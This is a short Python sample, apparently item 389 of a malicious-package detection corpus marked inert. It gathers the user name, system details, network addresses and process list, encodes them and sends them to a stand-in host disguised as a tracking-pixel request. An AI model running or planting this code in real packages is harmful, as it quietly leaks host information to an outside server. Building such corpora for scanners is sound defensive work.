# pkgguard corpus 389 (system-information), modelled on [checkmarx-2024]; inert, never run.
import base64
import getpass
import json
import platform

import psutil
import requests

profile = {
    "user": getpass.getuser(),
    "uname": platform.uname()._asdict(),
    "nics": {n: [a.address for a in addrs] for n, addrs in psutil.net_if_addrs().items()},
    "procs": [p.info["name"] for p in psutil.process_iter(["name"])],
}
q = base64.urlsafe_b64encode(json.dumps(profile).encode()).decode()
requests.get("https://stats.example/p.gif", params={"d": q}, timeout=5)
